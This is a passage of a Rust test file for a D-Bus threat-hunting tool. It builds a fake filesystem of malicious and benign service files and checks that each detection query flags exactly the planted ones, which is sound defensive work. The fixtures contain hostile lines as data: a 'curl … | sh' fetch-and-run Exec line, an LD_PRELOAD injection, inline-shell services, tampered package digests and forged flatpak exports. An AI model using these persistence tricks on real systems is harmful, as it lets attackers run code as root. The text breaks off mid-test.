//! Every pack query against a root planted with one case it must find and
//! decoys it must not: packaged files, flatpak exports, benign helpers, a
//! system account whose home is /usr/sbin, a non-root service in a writable
//! directory. Each query runs unchanged through the real binary's embedded
//! host (`hunt --json --only NAME`), and the exact set of rows is asserted.
//! The children query needs live buses: see `tests/packs.rs`.
use std::collections::BTreeSet;
use std::os::unix::fs::{chown, PermissionsExt};

use std::process::Command;
use std::time::{Duration, SystemTime};

const BIN: &str = env!("CARGO_BIN_EXE_osquery-dbus");

const ALICE: u32 = 1000;

struct Fixture {
    dir: tempfile::TempDir,
}

impl Fixture {
    fn path(&self, rel: &str) -> std::path::PathBuf {
        self.dir.path().join(rel.trim_start_matches('/'))
    }

    fn write(&self, rel: &str, body: &str) {
        let p = self.path(rel);
        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        std::fs::write(&p, body).expect("write");
    }

    fn program(&self, rel: &str) {
        self.write(rel, "#!/bin/sh\n");
        std::fs::set_permissions(self.path(rel), std::fs::Permissions::from_mode(0o755))
            .expect("chmod");
    }

    fn service(&self, rel: &str, name: &str, exec: &str, user: Option<&str>) {
        let user = user.map(|u| format!("User={u}\n")).unwrap_or_default();
        self.write(
            rel,
            &format!("[D-BUS Service]\nName={name}\nExec={exec}\n{user}"),
        );
    }

    fn backdate(&self, rel: &str, days: u64) {
        self.backdate_secs(rel, days * 86400);
    }

    fn backdate_secs(&self, rel: &str, secs: u64) {
        let when = SystemTime::now() - Duration::from_secs(secs);
        let f = std::fs::File::options()
            .write(true)
            .open(self.path(rel))
            .expect("open");
        f.set_modified(when).expect("set mtime");
    }

    /// Runs one pack query through `hunt` and returns its rows.
    fn hunt(&self, query: &str) -> Vec<serde_json::Value> {
        let out = Command::new(BIN)
            .arg("--root")
            .arg(self.dir.path())
            // Every severity: each query's rows are asserted exactly.
            .args(["hunt", "--json", "--min-severity", "info", "--only", query])
            .output()
            .expect("run hunt");
        let report: serde_json::Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("{query}: {e}: {}", String::from_utf8_lossy(&out.stderr)));
        let check = &report["checks"][0];
        assert_eq!(check["name"], query);
        assert_ne!(check["status"], "failed", "{query}: {}", check["error"]);
        let rows = check["rows"].as_array().cloned().unwrap_or_default();
        // The exit code tells scripts whether anything was found.
        let want = if rows.is_empty() { 0 } else { 1 };
        assert_eq!(out.status.code(), Some(want), "{query} exit code");
        rows
    }
}

const SYS: &str = "/usr/share/dbus-1/system-services";
const SES: &str = "/usr/share/dbus-1/services";
const LOCAL_SYS: &str = "/usr/local/share/dbus-1/system-services";
const ALICE_SVC: &str = "/srv/alice/.local/share/dbus-1/services";
const BOB_SVC: &str = "/home/bob/.local/share/dbus-1/services";

/// Default rules that own any name, call a root service and one run as
/// messagebus (not a finding), console users owning a wildcard name, and
/// root owning anything (root may).
const EVIL_POLICY: &str = "<busconfig>\
<policy context=\"default\"><allow own=\"*\"/><allow send_destination=\"org.evil.Unowned\"/>\
<allow send_destination=\"org.example.Bus\"/><deny send_destination=\"*\"/></policy>\
<policy at_console=\"true\"><allow own=\"org.evil.*\"/></policy>\
<policy user=\"root\"><allow own=\"*\"/></policy>\
<policy context=\"mandatory\"><allow send_destination=\"*\"/></policy>\
</busconfig>\n";

const PACKAGED_POLICY: &str =
    "<busconfig><policy context=\"default\"><allow own=\"*\"/></policy></busconfig>\n";

const FAKE_FLATPAK: &str =
    "/var/lib/flatpak/exports/share/dbus-1/services/org.evil.FakeFlatpak.service";
const FORGED_FLATPAK: &str =
    "/var/lib/flatpak/exports/share/dbus-1/services/org.evil.Staged.service";
const ALICE_FLATPAK: &str = "/srv/alice/.local/share/flatpak/exports/share/dbus-1/services";
const FORGED_SNAP: &str = "/var/lib/snapd/dbus-1/system-services/org.evil.SnapDir.service";

/// dpkg's md5sums digest (lowercase hex MD5).
fn md5_hex(bytes: &[u8]) -> String {
    use md5::Digest;
    md5::Md5::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn md5_file(p: &std::path::Path) -> String {
    md5_hex(&std::fs::read(p).expect("read"))
}

fn svc(dir: &str, name: &str) -> String {
    format!("{dir}/{name}.service")
}

fn planted() -> Fixture {
    let f = Fixture {
        dir: tempfile::tempdir().expect("tempdir"),
    };
    f.write(
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\n\
         daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
         messagebus:x:100:102::/nonexistent:/usr/sbin/nologin\n\
         alice:x:1000:1000:Alice:/srv/alice:/bin/bash\n\
         bob:x:1001:1001:Bob:/home/bob:/bin/bash\n",
    );
    f.write(
        "/etc/group",
        "root:x:0:\ndaemon:x:1:\nmessagebus:x:102:\nalice:x:1000:\nbob:x:1001:\n",
    );
    for prog in [
        "/bin/sh",
        "/usr/bin/env",
        "/usr/bin/python3",
        "/usr/bin/flatpak",
        "/usr/lib/example/helper",
        "/usr/lib/example/keyring",
        "/usr/lib/x/script.sh",
        "/usr/libexec/packaged-daemon",
        "/usr/sbin/daemon-tool",
        "/usr/bin/snap",
        "/usr/libexec/open-daemon",
        "/tmp/.x/payload",
        "/srv/alice/bin/agent",
        "/opt/tool/bin/run",
    ] {
        f.program(prog);
    }
    // A packaged program anyone may overwrite, and an unpackaged one in a
    // directory a user owns: whoever can write them runs code as root.
    std::fs::set_permissions(
        f.path("/usr/libexec/open-daemon"),
        std::fs::Permissions::from_mode(0o777),
    )
    .expect("chmod");
    chown(f.path("/opt/tool"), Some(ALICE), Some(ALICE)).expect("chown");
    let helper = "/usr/lib/example/helper";

    // Packaged: owned by a fixture dpkg package.
    f.service(
        &svc(SYS, "org.example.Packaged"),
        "org.example.Packaged",
        "/usr/libexec/packaged-daemon --system",
        Some("root"),
    );
    f.service(
        &svc(SYS, "org.example.OldPackaged"),
        "org.example.OldPackaged",
        "/usr/libexec/packaged-daemon",
        Some("root"),
    );
    f.backdate(&svc(SYS, "org.example.OldPackaged"), 30);
    // Packaged and verified: as open as the planted one, not a finding.
    f.write(
        "/etc/dbus-1/system.d/org.example.Packaged.conf",
        PACKAGED_POLICY,
    );
    f.service(
        &svc(SES, "org.example.Shadowed"),
        "org.example.Shadowed",
        helper,
        None,
    );
    f.service(
        &svc(SYS, "org.evil.OpenExec"),
        "org.evil.OpenExec",
        "/usr/libexec/open-daemon",
        Some("root"),
    );
    f.service(
        &svc(SYS, "org.evil.UserDirExec"),
        "org.evil.UserDirExec",
        "/opt/tool/bin/run",
        Some("root"),
    );
    // Packaged and verified, and still what decides what runs is not the
    // packaged program: the environment env sets, or the script an
    // interpreter runs (in /tmp, unpackaged, in a directory alice owns);
    // and the twin, a packaged script.
    f.service(
        &svc(SYS, "org.evil.EnvPreload"),
        "org.evil.EnvPreload",
        "/usr/bin/env LD_PRELOAD=/var/tmp/.l.so /usr/libexec/packaged-daemon",
        Some("root"),
    );
    f.service(
        &svc(SYS, "org.evil.TmpScript"),
        "org.evil.TmpScript",
        "/usr/bin/python3 -u /tmp/.agent.py",
        Some("root"),
    );
    f.write("/tmp/.agent.py", "import os\n");
    f.service(
        &svc(SYS, "org.evil.LocalScript"),
        "org.evil.LocalScript",
        "/bin/sh /usr/local/lib/x/run.sh",
        Some("root"),
    );
    f.write(
        "/usr/local/lib/x/run.sh",
        "exec /usr/libexec/packaged-daemon\n",
    );
    f.service(
        &svc(SYS, "org.evil.UserScript"),
        "org.evil.UserScript",
        "/bin/sh -e /opt/tool/run.sh",
        Some("root"),
    );
    f.write("/opt/tool/run.sh", "exec /usr/libexec/packaged-daemon\n");
    // Packaged, its program missing in a directory anyone may write.
    f.service(
        &svc(SYS, "org.evil.Claimable"),
        "org.evil.Claimable",
        "/opt/drop/agent",
        Some("root"),
    );
    std::fs::create_dir_all(f.path("/opt/drop")).expect("mkdir");
    std::fs::set_permissions(f.path("/opt/drop"), std::fs::Permissions::from_mode(0o1777))
        .expect("chmod");
    f.service(
        &svc(SYS, "org.example.PackagedScript"),
        "org.example.PackagedScript",
        "/bin/sh /usr/lib/x/script.sh --serve",
        Some("root"),
    );
    // Packaged by `example`, installed just now (its .list is written
    // last, as dpkg does): a package install or update that verifies.
    let packaged_files = [
        svc(SYS, "org.example.Packaged"),
        svc(SYS, "org.example.OldPackaged"),
        svc(SES, "org.example.Shadowed"),
        svc(SYS, "org.evil.OpenExec"),
        svc(SYS, "org.evil.UserDirExec"),
        svc(SYS, "org.evil.EnvPreload"),
        svc(SYS, "org.evil.TmpScript"),
        svc(SYS, "org.evil.LocalScript"),
        svc(SYS, "org.evil.UserScript"),
        svc(SYS, "org.example.PackagedScript"),
        svc(SYS, "org.evil.Claimable"),
    ];
    let packaged_programs = [
        "/bin/sh",
        "/usr/bin/env",
        "/usr/bin/python3",
        "/usr/bin/flatpak",
        "/usr/bin/snap",
        "/usr/lib/example/helper",
        "/usr/lib/example/keyring",
        "/usr/lib/x/script.sh",
        "/usr/libexec/packaged-daemon",
        "/usr/libexec/open-daemon",
        "/usr/sbin/daemon-tool",
    ];
    let md5sums: String = packaged_files
        .iter()
        .map(String::as_str)
        .chain(packaged_programs)
        .map(|p| format!("{}  {}\n", md5_file(&f.path(p)), &p[1..]))
        .collect();
    f.write("/var/lib/dpkg/info/example.md5sums", &md5sums);
    f.write(
        "/var/lib/dpkg/info/example.list",
        &format!(
            "/.\n/usr\n{}\n/etc/dbus-1/system.d/org.example.Packaged.conf\n{}\n",
            packaged_files.join("\n"),
            packaged_programs.join("\n"),
        ),
    );
    // Packaged by `tampered`, installed two hours ago, then edited in place
    // with its mtime put back a month: the digest and ctime give it away.
    let tampered = svc(SYS, "org.example.Tampered");
    f.service(
        &tampered,
        "org.example.Tampered",
        "/usr/libexec/packaged-daemon",
        Some("root"),
    );
    let original = "[D-BUS Service]\nName=org.example.Tampered\nExec=/usr/libexec/packaged-daemon --safe\nUser=root\n";
    f.write(
        "/var/lib/dpkg/info/tampered.md5sums",
        &format!("{}  {}\n", md5_hex(original.as_bytes()), &tampered[1..]),
    );
    f.write("/var/lib/dpkg/info/tampered.list", &format!("{tampered}\n"));
    f.backdate_secs("/var/lib/dpkg/info/tampered.list", 7200);
    f.backdate_secs("/var/lib/dpkg/info/tampered.md5sums", 7200);
    // Packaged by `swapped`: the path it recorded as a file is now a link
    // to a root service in /tmp.
    let swapped = svc(SYS, "org.example.Swapped");
    f.write(
        "/var/lib/dpkg/info/swapped.md5sums",
        &format!("{}  {}\n", md5_hex(original.as_bytes()), &swapped[1..]),
    );
    f.write("/var/lib/dpkg/info/swapped.list", &format!("{swapped}\n"));
    f.service(
        "/tmp/swap.service",
        "org.example.Swapped",
        "/tmp/.swap/payload",
        Some("root"),
    );
    std::os::unix::fs::symlink("/tmp/swap.service", f.path(&swapped)).expect("symlink");
    // Packaged by `rewritten`: edited, and its digest list rewritten to
    // match, after the install.
    let rewritten = svc(SYS, "org.example.Rewritten");
    f.service(
        &rewritten,
        "org.example.Rewritten",
        "/usr/libexec/packaged-daemon --debug-shell",
        Some("root"),
    );
    f.write(
        "/var/lib/dpkg/info/rewritten.list",
        &format!("{rewritten}\n"),
    );
    f.backdate_secs("/var/lib/dpkg/info/rewritten.list", 7200);
    f.write(
        "/var/lib/dpkg/info/rewritten.md5sums",
        &format!("{}  {}\n", md5_file(&f.path(&rewritten)), &rewritten[1..]),
    );
    f.backdate(&tampered, 30);
    f.write(
        "/var/lib/dpkg/status",
        &format!(
            "Package: example\nStatus: install ok installed\nConffiles:\n /etc/dbus-1/system.d/org.example.Packaged.conf {}\n",
            md5_hex(PACKAGED_POLICY.as_bytes())
        ),
    );

    // Unowned system-wide files.
    f.service(
        &svc(SYS, "org.evil.Unowned"),
        "org.evil.Unowned",
        &format!("{helper} --serve"),
        Some("root"),
    );
    f.write("/etc/dbus-1/system.d/org.evil.Policy.conf", EVIL_POLICY);
    // A session-bus policy as open is not a system-bus finding.
    f.write("/etc/dbus-1/session.d/org.evil.Session.conf", EVIL_POLICY);
    f.service(
        &svc(SYS, "org.evil.TmpExec"),
        "org.evil.TmpExec",
        "/tmp/.x/payload --daemon",
        Some("root"),
    );
    f.service(
        &svc(SES, "org.evil.Inline"),
        "org.evil.Inline",
        "/bin/sh -c \"curl -s http://example.invalid/x | sh\"",
        None,
    );
    f.service(
        &svc(SES, "org.evil.HomeExec"),
        "org.evil.HomeExec",
        "/srv/alice/bin/agent --quiet",
        None,
    );
    f.service(
        &svc(SES, "org.evil.Missing"),
        "org.evil.Missing",
        "/usr/libexec/missing-helper",
        None,
    );
    f.service(
        &svc(SES, "org.example.Script"),
        "org.example.Script",
        "/bin/sh /usr/lib/x/script.sh",
        None,
    );
    f.service(
        &svc(SES, "org.example.DaemonTool"),
        "org.example.DaemonTool",
        "/usr/sbin/daemon-tool --x",
        None,
    );
    f.service(
        &svc(SES, "org.example.Mismatch"),
        "org.gnome.keyring",
        "/usr/lib/example/keyring",
        None,
    );
    f.service(
        &svc(SYS, "org.evil.Backdated"),
        "org.evil.Backdated",
        helper,
        Some("root"),
    );
    f.backdate(&svc(SYS, "org.evil.Backdated"), 30);
    f.service(
        &svc(SYS, "org.evil.AliceOwned"),
        "org.evil.AliceOwned",
        helper,
        Some("root"),
    );
    chown(
        f.path(&svc(SYS, "org.evil.AliceOwned")),
        Some(ALICE),
        Some(ALICE),
    )
    .expect("chown");
    // A system service dir anyone can write to: a root service in it is a
    // finding, a messagebus one is not.
    f.service(
        &svc(LOCAL_SYS, "org.evil.Writable"),
        "org.evil.Writable",
        helper,
        Some("root"),
    );
    f.service(
        &svc(LOCAL_SYS, "org.example.Bus"),
        "org.example.Bus",
        helper,
        Some("messagebus"),
    );
    std::fs::set_permissions(f.path(LOCAL_SYS), std::fs::Permissions::from_mode(0o777))
        .expect("chmod");

    // Per-user files.
    f.service(
        &svc(ALICE_SVC, "org.alice.Agent"),
        "org.alice.Agent",
        "/srv/alice/bin/agent",
        None,
    );
    f.service(
        &svc(ALICE_SVC, "org.example.Shadowed"),
        "org.example.Shadowed",
        "/usr/bin/python3 -c \"import os; os.system('id')\"",
        None,
    );
    f.service(&svc(BOB_SVC, "org.bob.Only"), "org.bob.Only", helper, None);
    // Flatpak exports: never findings of the unowned or home queries.
    let user_deployment = "/srv/alice/.local/share/flatpak/app/org.flatpak.User/x86_64/stable/77aa";
    f.write(&format!("{user_deployment}/deploy"), "");
    f.service(
        &format!("{user_deployment}/export/share/dbus-1/services/org.flatpak.User.service"),
        "org.flatpak.User",
        "/usr/bin/flatpak run --branch=stable --arch=x86_64 --command=user-app org.flatpak.User",
        None,
    );
    std::fs::create_dir_all(f.path(ALICE_FLATPAK)).expect("mkdir");
    std::os::unix::fs::symlink(
        "../../../../app/org.flatpak.User/x86_64/stable/77aa/export/share/dbus-1/services/org.flatpak.User.service",
        f.path(&format!("{ALICE_FLATPAK}/org.flatpak.User.service")),
    )
    .expect("symlink");
    // A regular file in the user's flatpak exports: no flatpak made it.
    f.service(
        &format!("{ALICE_FLATPAK}/org.evil.UserFlatpak.service"),
        "org.evil.UserFlatpak",
        "/srv/alice/.cache/agent",
        None,
    );
    // The system export is a symlink into the app's recorded deployment,
    // with the Exec= line flatpak writes, as flatpak makes it; a regular
    // file planted beside it is no export.
    let deployment = "/var/lib/flatpak/app/org.flatpak.App/x86_64/stable/5d1c0ffee";
    f.write(&format!("{deployment}/deploy"), "");
    f.service(
        &format!("{deployment}/export/share/dbus-1/services/org.flatpak.App.service"),
        "org.flatpak.App",
        "/usr/bin/flatpak run --branch=stable --arch=x86_64 --command=app org.flatpak.App",
        None,
    );
    std::os::unix::fs::symlink(
        "x86_64/stable",
        f.path("/var/lib/flatpak/app/org.flatpak.App/current"),
    )
    .expect("symlink");
    std::os::unix::fs::symlink(
        "5d1c0ffee",
        f.path("/var/lib/flatpak/app/org.flatpak.App/x86_64/stable/active"),
    )
    .expect("symlink");
    std::fs::create_dir_all(f.path("/var/lib/flatpak/exports/share/dbus-1/services"))
        .expect("mkdir");
    std::os::unix::fs::symlink(
        "../../../../app/org.flatpak.App/current/active/export/share/dbus-1/services/org.flatpak.App.service",
        f.path("/var/lib/flatpak/exports/share/dbus-1/services/org.flatpak.App.service"),
    )
    .expect("symlink");
    f.service(
        FAKE_FLATPAK,
        "org.evil.FakeFlatpak",
        "/usr/lib/example/helper",
        None,
    );
    // A link into a directory laid out like a deployment that flatpak
    // never recorded (no deploy file), with a payload for Exec=.
    let staged = "/var/lib/flatpak/app/org.evil.Staged/x86_64/stable/1";
    f.service(
        &format!("{staged}/export/share/dbus-1/services/org.evil.Staged.service"),
        "org.evil.Staged",
        "/usr/lib/example/helper",
        None,
    );
    std::os::unix::fs::symlink(
        format!("{staged}/export/share/dbus-1/services/org.evil.Staged.service"),
        f.path(FORGED_FLATPAK),
    )
    .expect("symlink");
    // A file snapd generated for an installed snap: not a finding.
    f.write(
        "/var/lib/snapd/dbus-1/system-services/org.snap.Svc.service",
        "[D-BUS Service]\nName=org.snap.Svc\nComment=Bus name for snap application svc.daemon\nSystemdService=snap.svc.daemon.service\nExec=/usr/bin/snap run svc.daemon\nAssumedAppArmorLabel=snap.svc.daemon\nUser=root\nX-Snap=svc\n",
    );
    f.write("/var/lib/snapd/snaps/svc_42.snap", "");
    std::fs::create_dir_all(f.path("/snap/svc")).expect("mkdir");
    std::os::unix::fs::symlink("42", f.path("/snap/svc/current")).expect("symlink");
    f.write(
        "/etc/systemd/system/snap.svc.daemon.service",
        "[Service]\nExecStart=/usr/bin/snap run svc.daemon\n",
    );
    // A root service planted in snapd's directory: snapd wrote no such file.
    f.service(
        FORGED_SNAP,
        "org.evil.SnapDir",
        "/usr/lib/example/helper",
        Some("root"),
    );
    // Not a D-Bus service directory at all.
    f.write(
        "/usr/share/dbus-1/interfaces/org.example.Iface.xml",
        "<node/>\n",
    );
    f
}

fn column(rows: &[serde_json::Value], col: &str) -> BTreeSet<String> {
    rows.iter()
        .map(|r| r[col].as_str().unwrap_or_default().to_string())
        .collect()
}

fn set<const N: usize>(items: [String; N]) -> BTreeSet<String> {
    items.into_iter().collect()
}

#[test]
fn unowned_dbus_files() {
    let f = planted();
    let rows = f.hunt("unowned_dbus_files");
    assert_eq!(
        column(&rows, "path"),
        set([
            svc(SYS, "org.evil.Unowned"),
            "/etc/dbus-1/system.d/org.evil.Policy.conf".into(),
            svc(SYS, "org.evil.TmpExec"),
            svc(SES, "org.evil.Inline"),
            svc(SES, "org.evil.HomeExec"),
            svc(SES, "org.evil.Missing"),
            svc(SES, "org.example.Script"),
            svc(SES, "org.example.DaemonTool"),
            svc(SES, "org.example.Mismatch"),
            svc(SYS, "org.evil.Backdated"),
            svc(SYS, "org.evil.AliceOwned"),
            svc(LOCAL_SYS, "org.evil.Writable"),
            svc(LOCAL_SYS, "org.example.Bus"),
            FAKE_FLATPAK.into(),
            FORGED_FLATPAK.into(),
            FORGED_SNAP.into(),
            "/etc/dbus-1/session.d/org.evil.Session.conf".into(),
        ])
    );
    let alice_owned = rows
        .iter()
        .find(|r| r["path"] == svc(SYS, "org.evil.AliceOwned"))
        .expect("row");
    assert_eq!(alice_owned["owner"], "alice", "joined from users");
}

#[test]
fn unowned_query_is_silent_without_a_package_database() {
    let f = planted();
    std::fs::remove_dir_all(f.path("/var/lib/dpkg")).expect("rm dpkg");
    assert!(f.hunt("unowned_dbus_files").is_empty());
}

#[test]
fn risky_service_exec() {
    let f = planted();
    let rows = f.hunt("risky_service_exec");
    let got: BTreeSet<(String, String)> = rows
        .iter()
        .map(|r| {
            (
                r["path"].as_str().unwrap_or_default().to_string(),
                r["why"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect();
    let temp = "Exec runs from a temporary or home directory".to_string();
    let inline = "Exec runs an interpreter with inline code".to_string();
    let want: BTreeSet<(String, String)> = [
        (svc(SYS, "org.evil.TmpExec"), temp.clone()),
        (svc(SES, "org.evil.Inline"), inline.clone()),
        (svc(SES, "org.evil.HomeExec"), temp.clone()),
        // Missing, where anyone may create it; org.evil.Missing's program
        // only root could create: dangling_service_exec, not here.
        (
            svc(SYS, "org.evil.Claimable"),
            "Exec target does not exist and another account can create it".to_string(),
        ),
        (svc(ALICE_SVC, "org.alice.Agent"), temp.clone()),
        (svc(ALICE_SVC, "org.example.Shadowed"), inline),
        (
            svc(SYS, "org.evil.EnvPreload"),
            "Exec changes the environment through env: LD_PRELOAD=/var/tmp/.l.so".to_string(),
        ),
        (
            svc(SYS, "org.evil.TmpScript"),
            "the script it runs is in a temporary or home directory, or relative".to_string(),
        ),
        // Read through the link, as the bus reads it.
        (svc(SYS, "org.example.Swapped"), temp.clone()),
        // Alice's own session service: only she could create its program.
        (
            format!("{ALICE_FLATPAK}/org.evil.UserFlatpak.service"),
            temp.clone(),
        ),
    ]
    .into_iter()
    .collect();
    assert_eq!(got, want);
}

#[test]
fn dangling_service_exec() {
    let f = planted();
    let rows = f.hunt("dangling_service_exec");
    // Swapped and UserFlatpak are also risky_service_exec findings for
    // where their programs would be; missing, only root (or, for Alice's
    // own file, Alice) could create them.
    assert_eq!(
        column(&rows, "path"),
        set([
            svc(SES, "org.evil.Missing"),
            svc(SYS, "org.example.Swapped"),
            format!("{ALICE_FLATPAK}/org.evil.UserFlatpak.service"),
        ])
    );
}

#[test]
fn home_session_services() {
    let f = planted();
    let rows = f.hunt("home_session_services");
    assert_eq!(
        column(&rows, "path"),
        set([
            svc(ALICE_SVC, "org.alice.Agent"),
            svc(ALICE_SVC, "org.example.Shadowed"),
            svc(BOB_SVC, "org.bob.Only"),
            format!("{ALICE_FLATPAK}/org.evil.UserFlatpak.service"),
        ])
    );
    assert_eq!(
        column(&rows, "username"),
        set(["alice".into(), "bob".into()])
    );
}

#[test]
fn root_services_in_writable_places() {
    let f = planted();
    let rows = f.hunt("root_services_in_writable_places");
    assert_eq!(
        column(&rows, "path"),
        set([
            svc(LOCAL_SYS, "org.evil.Writable"),
            svc(SYS, "org.evil.AliceOwned"),
            svc(SYS, "org.evil.OpenExec"),
        ])
    );
}

#[test]
fn service_name_mismatch() {
    let f = planted();
    let rows = f.hunt("service_name_mismatch");
    assert_eq!(
        column(&rows, "path"),
        set([svc(SES, "org.example.Mismatch")])
    );
    assert_eq!(rows[0]["service_name"], "org.gnome.keyring");
}

#[test]
fn shadowed_service_names() {
    let f = planted();
    let rows = f.hunt("shadowed_service_names");
    assert_eq!(rows.len(), 1, "{rows:#?}");
    assert_eq!(rows[0]["path"], svc(ALICE_SVC, "org.example.Shadowed"));
    assert_eq!(rows[0]["also_defined_in"], svc(SES, "org.example.Shadowed"));
    assert_eq!(rows[0]["other_package"], "example");
}

#[test]
fn backdated_dbus_files() {
    let f = planted();
    let rows = f.hunt("backdated_dbus_files");
    let has_btime = std::fs::metadata(f.path(&svc(SYS, "org.evil.Backdated")))
        .and_then(|m| m.created())
        .is_ok();
    if has_btime {
        // The packaged file backdated the same way is not a finding.
        assert_eq!(column(&rows, "path"), set([svc(SYS, "org.evil.Backdated")]));
    } else {
        eprintln!("note: this filesystem records no birth time; only checking silence");
        assert!(rows.is_empty());
    }
}

#[test]
fn recently_changed_sees_through_backdating() {
    let f = planted();
    let rows = f.hunt("dbus_files_changed_recently");
    let paths = column(&rows, "path");
    // Everything planted is new, backdated mtimes included: ctime and
    // birth time cannot be set back from user space. That includes the
    // packaged file edited in place after its package's install.
    for p in [
        svc(SYS, "org.evil.Backdated"),
        svc(SYS, "org.example.Tampered"),
        svc(ALICE_SVC, "org.alice.Agent"),
        "/etc/dbus-1/system.d/org.evil.Policy.conf".to_string(),
        FAKE_FLATPAK.to_string(),
    ] {
        assert!(paths.contains(&p), "{p} missing from {paths:#?}");
    }
    // A package's own install, verified, is not a change of interest, even
    // with its mtime a month old (package managers keep build times).
    for p in [
        svc(SYS, "org.example.Packaged"),
        svc(SYS, "org.example.OldPackaged"),
        svc(SES, "org.example.Shadowed"),
        "/etc/dbus-1/system.d/org.example.Packaged.conf".to_string(),
    ] {
        assert!(!paths.contains(&p), "{p} is a verified package install");
    }
    let tampered = rows
        .iter()
        .find(|r| r["path"] == svc(SYS, "org.example.Tampered"))
        .expect("row");
    assert_eq!(tampered["package_verified"], "0");
    assert_eq!(tampered["changed_after_install"], "1");
    assert!(!paths.iter().any(|p| p.contains("/interfaces/")));
    let alice = rows
        .iter()
        .find(|r| r["path"] == svc(ALICE_SVC, "org.alice.Agent"))
        .expect("row");
    assert_eq!(alice["owner"], "root", "planted by root, so owned by root");
}

/// The time window against files that really are old: this machine's own
/// packaged D-Bus files. Whatever the query returns must be recent by the
/// file's own metadata, and every old file must be absent.
#[test]
fn recently_changed_leaves_old_files_out() {
    use std::os::unix::fs::MetadataExt;
    let out = Command::new(BIN)
        .args(["hunt", "--json", "--only", "dbus_files_changed_recently"])
        .output()
        .expect("run hunt");
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
    let rows = report["checks"][0]["rows"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let returned = column(&rows, "path");
    let week_ago = SystemTime::now()
        .duration_since(SystemTime::UNIX_EPOCH)
        .expect("clock")
        .as_secs() as i64
        - 7 * 86400;
    let mut old_seen = 0;
    for dir in [
        SYS,
        SES,
        "/usr/share/dbus-1/system.d",
        "/etc/dbus-1/system.d",
    ] {
        let Ok(entries) = std::fs::read_dir(dir) else {
            continue;
        };
        for e in entries.flatten() {
            let Ok(m) = std::fs::symlink_metadata(e.path()) else {
                continue;
            };
            let born = m
                .created()
                .ok()
                .and_then(|t| t.duration_since(SystemTime::UNIX_EPOCH).ok())
                .map_or(0, |d| d.as_secs() as i64);
            let recent = m.mtime().max(m.ctime()).max(born) > week_ago;
            let path = e.path().display().to_string();
            // A recent file may still be left out: a verified package
            // install (see recently_changed_sees_through_backdating).
            if returned.contains(&path) {
                assert!(recent, "{path}");
            }
            old_seen += usize::from(!recent);
        }
    }
    eprintln!(
        "{old_seen} old files correctly left out; {} recent",
        returned.len()
    );
}

#[test]
fn unpackaged_shadows_packaged() {
    let f = planted();
    let rows = f.hunt("unpackaged_shadows_packaged");
    let pairs: BTreeSet<(String, String)> = rows
        .iter()
        .map(|r| {
            (
                r["unpackaged"].as_str().unwrap_or_default().to_string(),
                r["packaged"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect();
    // alice's file wins the name in her session over the packaged one;
    // bob's unique name and the unpackaged system files with names of
    // their own are not findings.
    let want: BTreeSet<(String, String)> = [(
        svc(ALICE_SVC, "org.example.Shadowed"),
        svc(SES, "org.example.Shadowed"),
    )]
    .into_iter()
    .collect();
    assert_eq!(pairs, want);
}

#[test]
fn unpackaged_or_modified_services() {
    let f = planted();
    let rows = f.hunt("unpackaged_or_modified_services");
    assert_eq!(
        column(&rows, "path"),
        set([
            svc(SYS, "org.evil.Unowned"),
            svc(SYS, "org.evil.TmpExec"),
            svc(SES, "org.evil.Inline"),
            svc(SES, "org.evil.HomeExec"),
            svc(SES, "org.evil.Missing"),
            svc(SES, "org.example.Script"),
            svc(SES, "org.example.DaemonTool"),
            svc(SES, "org.example.Mismatch"),
            svc(SYS, "org.evil.Backdated"),
            svc(SYS, "org.evil.AliceOwned"),
            svc(LOCAL_SYS, "org.evil.Writable"),
            svc(LOCAL_SYS, "org.example.Bus"),
            svc(SYS, "org.example.Tampered"),
            svc(SYS, "org.example.Swapped"),
            svc(SYS, "org.example.Rewritten"),
            FAKE_FLATPAK.into(),
            FORGED_FLATPAK.into(),
            FORGED_SNAP.into(),
        ])
    );
}

#[test]
fn packaged_files_failing_verification() {
    let f = planted();
    let rows = f.hunt("packaged_files_failing_verification");
    assert_eq!(
        column(&rows, "path"),
        set([
            svc(SYS, "org.example.Tampered"),
            svc(SYS, "org.example.Swapped"),
            svc(SYS, "org.example.Rewritten"),
        ])
    );
    let row = |p: String| rows.iter().find(|r| r["path"] == p).expect("row");
    let tampered = row(svc(SYS, "org.example.Tampered"));
    assert_eq!(tampered["package"], "tampered");
    assert_eq!(tampered["changed_after_install"], "1");
    let swapped = row(svc(SYS, "org.example.Swapped"));
    assert_eq!(swapped["package"], "swapped");
    assert_eq!(
        swapped["verify_reason"],
        "its package recorded a regular file; now a symlink to /tmp/swap.service"
    );
    assert_eq!(swapped["target_path"], "/tmp/swap.service");
    assert_eq!(swapped["target_package"], "", "no package owns the target");
    let rewritten = row(svc(SYS, "org.example.Rewritten"));
    assert!(
        rewritten["verify_reason"]
            .as_str()
            .unwrap()
            .contains("digest list of rewritten changed after its install"),
        "{rewritten}"
    );
}

#[test]
fn untrusted_exec_targets() {
    let f = planted();
    let rows = f.hunt("untrusted_exec_targets");
    let got: BTreeSet<(String, String)> = rows
        .iter()
        .map(|r| {
            (
                r["path"].as_str().unwrap_or_default().to_string(),
                r["why"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect();
    let unpackaged = "no package ships the program it runs".to_string();
    let replace = "another account can replace the program".to_string();
    let want: BTreeSet<(String, String)> = [
        (svc(SYS, "org.evil.TmpExec"), unpackaged.clone()),
        (svc(SES, "org.evil.HomeExec"), unpackaged.clone()),
        (svc(SYS, "org.evil.OpenExec"), replace.clone()),
        (
            svc(SYS, "org.evil.UserDirExec"),
            format!("{unpackaged}; {replace}"),
        ),
        (
            svc(SYS, "org.evil.TmpScript"),
            "no package ships the script it runs".to_string(),
        ),
        (
            svc(SYS, "org.evil.LocalScript"),
            "no package ships the script it runs".to_string(),
        ),
        (
            svc(SYS, "org.evil.UserScript"),
            "no package ships the script it runs; another account can replace the script"
                .to_string(),
        ),
    ]
    .into_iter()
    .collect();
    assert_eq!(got, want);
}

#[test]
fn risky_system_bus_policies() {
    let f = planted();
    let rows = f.hunt("risky_system_bus_policies");
